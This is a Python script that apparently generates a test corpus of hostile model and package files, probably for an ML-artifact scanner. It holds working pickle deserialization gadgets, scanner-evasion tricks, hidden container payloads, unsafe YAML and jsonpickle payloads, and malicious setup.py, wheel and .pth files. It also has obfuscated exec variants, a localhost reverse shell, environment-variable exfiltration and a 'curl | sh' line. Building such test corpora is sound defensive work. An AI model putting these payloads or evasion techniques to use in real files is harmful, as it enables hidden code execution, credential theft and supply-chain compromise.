"""The second half of malicious.py, from other write-ups: gadgets in allowed packages, odd containers, code that hides."""
import base64, bz2, codecs, gzip, io, json, lzma, marshal, os, pickle, struct, tarfile, zipfile, zlib

from malicious import COMMAND, EVIL, JOBLIB, NUMPY, PICKLE, PYTHON, STATE, TORCH, Call, called, case, short, torch_zip, zipped

PLAIN = "def handle(data, context):\n    return ['ok'] * len(data) if data else None\n"
IMPORT = "import sys; sys.path.insert(0, '.'); import h"


def fields(**values):
    return b"}(" + b"".join(short(k) + v for k, v in values.items()) + b"u"


def gadgets():
    """What packages do for whoever names their classes only."""
    template = PYTHON + "\ndef _parse_args(self): pass\n_parse_args_rvs = _parse_args_stats = _parse_args\n"
    case("scipy-template", {"model.pkl": b"\x80\x04cscipy.stats._continuous_distns\nnorm_gen\n)\x81" + fields(_parse_arg_template=short(template)) + b"b."}, PICKLE)
    many = b"".join(short(f"k{i}") + b"N" for i in range(100))
    case("scipy-template-behind-hundred", {"model.pkl": b"\x80\x04cscipy.stats._continuous_distns\nnorm_gen\n)\x81}(" + many + short("_parse_arg_template") + short(template) + b"ub."}, PICKLE)
    case("scipy-template-long", {"model.pkl": b"\x80\x04cscipy.stats._continuous_distns\nnorm_gen\n)\x81}" + short("_parse_arg_template") + b"X" + struct.pack("<I", len(template) + 2000) + template.encode() + b"#" * 2000 + b"sb."}, PICKLE)
    case("scipy-template-ordered", {"model.pkl": b"\x80\x04cscipy.stats._continuous_distns\nnorm_gen\n)\x81ccollections\nOrderedDict\n](]" + b"(" + short("_parse_arg_template") + short(template) + b"ee\x85Rb."}, PICKLE)
    case("scipy-scalar-function", {"model.pkl": b"\x80\x04cscipy.optimize._differentiable_functions\nScalarFunction\n(cpayload\nrun\nK\x01)cpayload\nrun\ncpayload\nrun\nNNtR.", "payload.py": (PYTHON + "\ndef run(*a): return 1.0\n").encode()}, "import sys; sys.path.insert(0, '.'); " + PICKLE)
    case("statsmodels-formula", {"model.pkl": b"\x80\x04cstatsmodels.base.data\nPandasData\n)\x81" + fields(formula=short("y ~ __import__('os').system('touch fired')"), frame=b"cpandas.core.frame\nDataFrame\n}(" + short("y") + b"](K\x01K\x02eu\x85R", restore_design_info=b"\x88") + b"b."}, PICKLE)
    old = pickle.dumps(Call(os.system, COMMAND), 2)
    text = b"X" + struct.pack("<I", len(torch_zip(old).decode("latin1").encode())) + torch_zip(old).decode("latin1").encode()
    case("torch-encoded-bytes", {"model.pkl": b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\n" + text + b"X\x06\x00\x00\x00latin1\x86R\x85R."}, "import torch; " + PICKLE)
    zero = pickle.dumps(Call(os.system, COMMAND), 0)
    case("torch-bytes-protocol-0", {"model.pkl": b"\x80\x04ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(zero)) + zero + b"\x85R."}, "import torch; " + PICKLE)
    case("torch-bytes-bytearray", {"model.pkl": b"\x80\x05ctorch.storage\n_load_from_bytes\ncbuiltins\nbytes\n\x96" + struct.pack("<Q", len(EVIL)) + EVIL + b"\x85R\x85R."}, "import torch; " + PICKLE)
    case("pandas-pickle", {"model.pkl": b"\x80\x04" + short("pandas") + short("DataFrame.to_pickle") + b"\x93cpandas\nDataFrame\n)R" + short("fired") + b"\x86R."}, PICKLE)
    case("pandas-query", {"model.pkl": b"\x80\x04" + short("pandas.core.frame") + short("DataFrame.query") + b"\x93cpandas\nDataFrame\n}" + short("a") + b"](K\x01es\x85R" + short("@pd.io.common.os.system('touch fired')") + b"\x86R."}, "import pandas as pd; " + PICKLE)
    case("sklearn-os", {"model.pkl": b"\x80\x04" + short("sklearn.datasets._base") + short("shutil.copyfile") + b"\x93" + short("model.pkl") + short("fired") + b"\x86R."}, PICKLE)
    case("weakref-finalize", {"model.pkl": b"\x80\x04cweakref\nfinalize\n(ccollections\nOrderedDict\n)Rcos\nsystem\n" + short(COMMAND) + b"tR."}, PICKLE)
    case("exitstack", {"model.pkl": b"\x80\x04catexit\nregister\ncos\nsystem\n" + short(COMMAND) + b"\x86R."}, PICKLE)
    case("write-into-module", {"model.pkl": b"\x80\x04" + short("json.decoder") + short("JSONDecoder.__init__.__globals__") + b"\x93" + short("x") + b"cbuiltins\nexec\ns0cbuiltins\nexec\n" + short(PYTHON) + b"\x85R."}, PICKLE)
    case("build-on-class", {"model.pkl": b"\x80\x04ccollections\nUserDict\n" + b"N}" + short("__len__") + b"cposix\ngetcwd\ns\x86b0cbuiltins\nexec\n" + short(PYTHON) + b"\x85R."}, PICKLE)


def writing():
    """Instructions that are rarely used, and ends that are broken."""
    case("obj-newobj-ex", {"model.pkl": b"\x80\x04csubprocess\nPopen\n(]" + b"(" + short("touch") + short("fired") + b"et}\x920csubprocess\nPopen\n](" + short("touch") + short("fired") + b"e\x85R."}, PICKLE + "; import time; time.sleep(.4)")
    case("text-put-get", {"model.pkl": b"cos\nsystem\np99\n0g99\n(Vtouch fired\ntR."}, PICKLE)
    case("dup-pop-mark", {"model.pkl": b"\x80\x02(NN1cos\nsystem\n20" + b"U\x0btouch fired\x85R."}, PICKLE)
    case("protocol-lie", {"model.pkl": b"\x80\x00" + EVIL[2:]}, PICKLE)
    case("protocol-in-the-middle", {"model.pkl": b"N0\x80\x05}0" + EVIL[2:]}, PICKLE)
    case("wrong-frame", {"model.pkl": b"\x80\x04\x95" + struct.pack("<Q", len(EVIL) - 2) + EVIL[2:]}, PICKLE)
    case("frames-in-frames", {"model.pkl": b"\x80\x04\x95\x04\x00\x00\x00\x00\x00\x00\x00N0N0" + b"\x95" + struct.pack("<Q", len(EVIL) - 2) + EVIL[2:]}, PICKLE)
    case("bytes8-name", {"model.pkl": b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("short-binstring-name", {"model.pkl": b"\x80\x04U\x02osU\x06system\x93U\x0btouch fired\x85R."}, PICKLE)
    case("long-after-stop", {"model.pkl": EVIL + b"\x00" * 100 + b"not a pickle"}, PICKLE)
    case("stacked-three", {"model.pkl": pickle.dumps(1, 0) + pickle.dumps([1], 2) + EVIL}, "import pickle\nf = open('model.pkl', 'rb')\nfor _ in range(3): pickle.load(f)")
    case("frozenset-chain", {"model.pkl": b"\x80\x04(cbuiltins\nprint\n0cos\nsystem\n" + short(COMMAND) + b"\x85R\x91."}, PICKLE)
    case("dispatch-copyreg", {"model.pkl": b"\x80\x02ccopyreg\n__newobj__\ncsubprocess\nPopen\n\x85R0ccopyreg\n_reconstructor\n(cbuiltins\nobject\ncbuiltins\nobject\nNtR0cos\nsystem\nU\x0btouch fired\x85R."}, PICKLE)


def places():
    """Containers, names and compressions."""
    for name, pack in {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "z": zlib.compress}.items():
        case(f"packed-twice-{name}", {"model.pkl": gzip.compress(pack(EVIL))}, {
            "gz": "import gzip, pickle; pickle.loads(gzip.decompress(gzip.decompress(open('model.pkl','rb').read())))",
            "bz2": "import gzip, bz2, pickle; pickle.loads(bz2.decompress(gzip.decompress(open('model.pkl','rb').read())))",
            "xz": "import gzip, lzma, pickle; pickle.loads(lzma.decompress(gzip.decompress(open('model.pkl','rb').read())))",
            "z": "import gzip, zlib, pickle; pickle.loads(zlib.decompress(gzip.decompress(open('model.pkl','rb').read())))"}[name])
    try:
        import lz4.frame
        case("joblib-lz4", {"model.joblib": lz4.frame.compress(EVIL)}, JOBLIB)
    except ImportError: pass
    try:
        import tables
        with tables.open_file("m.h5", "w", driver="H5FD_CORE", driver_core_backing_store=0) as f:
            f.create_vlarray("/", "steps", tables.ObjectAtom()).append(Call(os.system, COMMAND))
            case("pytables-object", {"model.h5": f.get_file_image()}, "import tables; tables.open_file('model.h5').root.steps[0]")
        with tables.open_file("m.h5", "w", driver="H5FD_CORE", driver_core_backing_store=0) as f:
            f.root._v_attrs.note = Call(os.system, COMMAND)
            case("pytables-attribute", {"weights.hdf5": f.get_file_image()}, "import tables; tables.open_file('weights.hdf5').root._v_attrs.note")
    except ImportError: pass
    case("torch-odd-folder", {"model.pt": zipped([("..data/../x/data.pkl", EVIL), ("..data/../x/version", b"3\n")])}, "import zipfile, pickle; pickle.loads(zipfile.ZipFile('model.pt').read('..data/../x/data.pkl'))")
    case("torch-upper-name", {"weights.PT": torch_zip(EVIL)}, TORCH)
    case("npz-odd-name", {"w.npz": zipped([("weights.bin", b"x"), ("a", EVIL)])}, "import zipfile, pickle; pickle.loads(zipfile.ZipFile('w.npz').read('a'))")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        for name, data in {"sys_info": pickle.dumps({}), "pickle": EVIL, "storages": pickle.dumps(0), "tensors": pickle.dumps(0)}.items():
            info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data))
    case("torch-tar", {"model.pth": out.getvalue()}, "import tarfile, pickle; pickle.load(tarfile.open('model.pth').extractfile('pickle'))")
    encoded = base64.b64encode(EVIL).decode()
    case("base64-json", {"config.json": json.dumps({"vectorizer": encoded}).encode()}, "import json, base64, pickle; pickle.loads(base64.b64decode(json.load(open('config.json'))['vectorizer']))")
    case("base64-text", {"scaler.b64": encoded.encode()}, "import base64, pickle; pickle.loads(base64.b64decode(open('scaler.b64').read()))")
    case("hex-text", {"scaler.txt": EVIL.hex().encode()}, "import pickle; pickle.loads(bytes.fromhex(open('scaler.txt').read()))")
    case("yaml-apply", {"config.yaml": f"name: m\nhook: !!python/object/apply:os.system ['{COMMAND}']\n".encode()}, "import yaml; yaml.load(open('config.yaml'), Loader=yaml.UnsafeLoader)")
    case("yaml-new", {"params.yml": f"a: !!python/object/new:os.system ['{COMMAND}']\n".encode()}, "import yaml; yaml.load(open('params.yml'), Loader=yaml.UnsafeLoader)")
    case("yaml-tag-directive", {"config.yaml": f"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['{COMMAND}']\n".encode()}, "import yaml; yaml.load(open('config.yaml'), Loader=yaml.UnsafeLoader)")
    case("jsonpickle", {"state.json": json.dumps({"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": [COMMAND]}]}).encode()}, "import jsonpickle; jsonpickle.decode(open('state.json').read(), safe=False)")
    case("jpg-pickle", {"logo.jpg": EVIL}, PICKLE)
    case("mlflow", {"data/python_model.pkl": EVIL, "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"}, PICKLE)
    case("sdist", {"dep-1.0.tar.gz": tar({"dep-1.0/setup.py": "import os\nos.system('touch fired')\nfrom setuptools import setup\nsetup(name='dep', version='1.0')\n"}), "requirements.txt": b"./dep-1.0.tar.gz\n"}, "import tarfile; exec(tarfile.open('dep-1.0.tar.gz').extractfile('dep-1.0/setup.py').read().decode().split('from setuptools')[0])")
    case("wheel", {"dep-1.0-py3-none-any.whl": zipped([("dep/__init__.py", b"import os\nos.system('touch fired')\n"), ("dep-1.0.dist-info/METADATA", b"Name: dep\nVersion: 1.0\n")]), "requirements.txt": b"./dep-1.0-py3-none-any.whl\n"}, "import sys; sys.path.insert(0, 'dep-1.0-py3-none-any.whl'); import dep")
    case("egg-pth", {"evil.pth": b"import os; os.system('touch fired')\n"}, "exec(open('evil.pth').read())")


def tar(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        for name, text in files.items():
            data = text.encode(); info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data))
    return out.getvalue()


HANDLERS = {
    "init-package": {"pkg/__init__.py": "import os\nos.system('touch fired')\n", "h.py": "import pkg\n" + PLAIN},
    "class-body": {"h.py": "import os\nclass Model:\n    os.system('touch fired')\n" + PLAIN},
    "default-argument": {"h.py": "import os\ndef load(x=os.system('touch fired')):\n    pass\n" + PLAIN},
    "decorator": {"h.py": "import os\ndef deco(f):\n    os.system('touch fired')\n    return f\n@deco\n" + PLAIN},
    "called-at-import": {"h.py": "import subprocess\ndef _setup():\n    subprocess.check_call(['touch', 'fired'])\n_setup()\n" + PLAIN},
    "thread": {"h.py": "import os, threading\nthreading.Thread(target=os.system, args=('touch fired',)).start()\n" + PLAIN},
    "atexit": {"h.py": "import os, atexit\natexit.register(os.system, 'touch fired')\n" + PLAIN},
    "alias": {"h.py": "import os as o\ns = o.system\ns('touch fired')\n" + PLAIN},
    "importlib": {"h.py": "import importlib\nimportlib.import_module('os').system('touch fired')\n" + PLAIN},
    "builtins-dict": {"h.py": "__builtins__['exec' if 'exec' in __builtins__ else 'eval'](\"open('fired','w').close()\")\n" + PLAIN},
    "globals-builtins": {"h.py": "globals()['__builtins__']['ev' + 'al'](\"open('fired','w').close()\")\n" + PLAIN},
    "subclasses": {"h.py": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('touch fired')\n" + PLAIN},
    "codecs-rot13": {"h.py": "import codecs\nexec(codecs.decode(" + repr(codecs.encode(PYTHON, "rot13")) + ", 'rot13'))\n" + PLAIN},
    "bytes-fromhex": {"h.py": "exec(bytes.fromhex(" + repr(PYTHON.encode().hex()) + "))\n" + PLAIN},
    "chr-join": {"h.py": "eval(compile(''.join(map(chr, " + repr(list(PYTHON.encode())) + ")), 'x', 'exec'))\n" + PLAIN},
    "reversed": {"h.py": "exec(" + repr(PYTHON[::-1]) + "[::-1])\n" + PLAIN},
    "ctypes-libc": {"h.py": "import ctypes\nctypes.CDLL(None).system(b'touch fired')\n" + PLAIN},
    "posix": {"h.py": "import posix\nposix.system('touch fired')\n" + PLAIN},
    "os-exec-fork": {"h.py": "import os\nif os.fork() == 0:\n    os.execvp('touch', ['touch', 'fired'])\nos.wait()\n" + PLAIN},
    "pty": {"h.py": "import pty\npty.spawn(['touch', 'fired'])\n" + PLAIN},
    "asyncio": {"h.py": "import asyncio\nasync def go():\n    p = await asyncio.create_subprocess_shell('touch fired')\n    await p.wait()\nasyncio.run(go())\n" + PLAIN},
    "runpy": {"h.py": "import runpy\nrunpy.run_path('notes.txt')\n" + PLAIN, "notes.txt": PYTHON},
    "exec-open": {"h.py": "exec(open('labels.txt').read())\n" + PLAIN, "labels.txt": PYTHON},
    "pip-at-import": {"h.py": "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', '--version'], stdout=open('fired', 'w'))\n" + PLAIN},
    "pickle-literal": {"h.py": "import pickle\npickle.loads(" + repr(EVIL) + ")\n" + PLAIN},
    "meta-path": {"h.py": "import sys, os\nclass F:\n    def find_spec(self, *a):\n        os.system('touch fired')\nsys.meta_path.insert(0, F())\ntry:\n    import nothing_here\nexcept ImportError: pass\n" + PLAIN},
    "module-getattr": {"h.py": "import sys\nsys.modules['os'].system('touch fired')\n" + PLAIN},
    "getattr-import": {"h.py": "m = __import__('os')\nf = getattr(m, 'system')\nf('touch fired')\n" + PLAIN},
    "commented-spaces": {"h.py": "import math;" + " " * 300 + "import os; os.system('touch fired')\n" + PLAIN},
    "shadow-json": {"h.py": "import json\n" + PLAIN, "json.py": "import os\nos.system('touch fired')\n"},
    "shadow-numpy-package": {"h.py": "import numpy\n" + PLAIN, "numpy/__init__.py": "import os\nos.system('touch fired')\n"},
    "usercustomize": {"usercustomize.py": PYTHON, "h.py": PLAIN},
    "hide-in-try": {"h.py": "try:\n    import requests_missing\nexcept ImportError:\n    import os\n    os.popen('touch fired').read()\n" + PLAIN},
    "lambda": {"h.py": "import os\n(lambda: os.system('touch fired'))()\n" + PLAIN},
    "comprehension": {"h.py": "import os\n[f(a) for f, a in [(os.system, 'touch fired')]]\n" + PLAIN},
    "map": {"h.py": "import os\nlist(map(os.system, ['touch fired']))\n" + PLAIN},
    "star-import": {"h.py": "from os import *\nsystem('touch fired')\n" + PLAIN},
    "operator": {"h.py": "import operator, os\noperator.methodcaller('system', 'touch fired')(os)\n" + PLAIN},
    "metaclass": {"h.py": "import os\nclass M(type):\n    def __init__(cls, *a):\n        os.system('touch fired')\nclass Model(metaclass=M):\n    pass\n" + PLAIN},
    "init-subclass": {"h.py": "import os\nclass Base:\n    def __init_subclass__(cls):\n        os.system('touch fired')\nclass Model(Base):\n    pass\n" + PLAIN},
    "instance-at-import": {"h.py": "import os\nclass Service:\n    def __init__(self):\n        os.system('touch fired')\n_service = Service()\n" + PLAIN},
    "helper-function": {"h.py": "import helper\nhelper.setup()\n" + PLAIN, "helper.py": "import subprocess\ndef setup():\n    subprocess.run('touch fired', shell=True)\n"},
    "utf7": {"h.py": "# -*- coding: utf-7 -*-\nimport os+AAo-os.system('touch fired')\n" + PLAIN},
    "write-authorized-keys": {"h.py": "import os\nopen(os.path.expanduser('fired'), 'w').write('ssh-rsa AAAA')\nopen('/root/.ssh/authorized_keys', 'a').write('ssh-rsa') if False else None\n" + PLAIN},
    "urllib-exec": {"h.py": "import urllib.request\nexec(urllib.request.urlopen('data:,' + 'open(%22fired%22,%22w%22)').read())\n" + PLAIN},
    "socket-shell": {"h.py": "import socket, subprocess, os\nif False:\n    s = socket.socket(); s.connect(('127.0.0.1', 4444)); os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])\nopen('fired', 'w').close()\n" + PLAIN},
    "env-exfil": {"h.py": "import os, urllib.request, json\ntry:\n    urllib.request.urlopen('http://127.0.0.1:9/', data=json.dumps(dict(os.environ)).encode(), timeout=1)\nexcept Exception:\n    open('fired', 'w').close()\n" + PLAIN},
    "in-initialize": {"h.py": "import os\nclass H:\n    def initialize(self, c):\n        os.system('curl -s http://127.0.0.1:9/x.sh | sh; touch fired')\n_s = H()\ndef handle(data, context):\n    _s.initialize(context)\n    return ['ok']\n"},
    "in-handle-request": {"h.py": "import os\ndef handle(data, context):\n    if data is None:\n        return None\n    os.system(data[0].get('body'))\n    return ['ok']\n"},
    "eval-request": {"h.py": "def handle(data, context):\n    if data is None:\n        return None\n    return [eval(data[0].get('body'))]\n"},
}
LOADS = {"in-initialize": "import h; h.handle(None, None)", "in-handle-request": "import h; h.handle([{'body': 'touch fired'}], None)",
         "eval-request": "import h; h.handle([{'body': \"open('fired','w')\"}], None)", "usercustomize": "import usercustomize"}


def handlers():
    for name, files in HANDLERS.items():
        case(f"code-{name}", {path: text.encode() for path, text in files.items()}, LOADS.get(name, IMPORT))
    import py_compile, tempfile
    with tempfile.TemporaryDirectory() as folder:
        source = os.path.join(folder, "x.py"); out = os.path.join(folder, "x.pyc")
        with open(source, "w") as f: f.write("import os\nos.system('touch fired')\n")
        py_compile.compile(source, out)
        with open(out, "rb") as f: case("code-pyc", {"h.py": ("import helper\n" + PLAIN).encode(), "helper.pyc": f.read()}, IMPORT)
    for name, line in {"git-editable": "-e git+https://example.invalid/x.git#egg=x", "extra-index": "--extra-index-url=https://packages.example.invalid/simple\ncompany-utils==1.0",
                       "url": "https://files.example.invalid/x-1.0.tar.gz", "at-url": "numpy @ https://files.example.invalid/numpy-1.0-py3-none-any.whl",
                       "index": "-i http://10.1.2.3/simple/\nnumpy==1.26.4", "continued": "--extra-index-\\\nurl https://packages.example.invalid/simple\nnumpy==1.26.4", "option-per-line": "numpy==1.26.4 --global-option=\"--x\"\n--find-links https://files.example.invalid/"}.items():
        case(f"requirements-{name}", {"requirements.txt": line.encode() + b"\n"}, "open('fired', 'w').close()")


if __name__ == "__main__":
    import sys
    from malicious import CASES, write
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    gadgets(); writing(); places(); handlers()
    write(out, {name: made for name, made in CASES.items() if None not in made[0].values()})
    print(len(CASES))
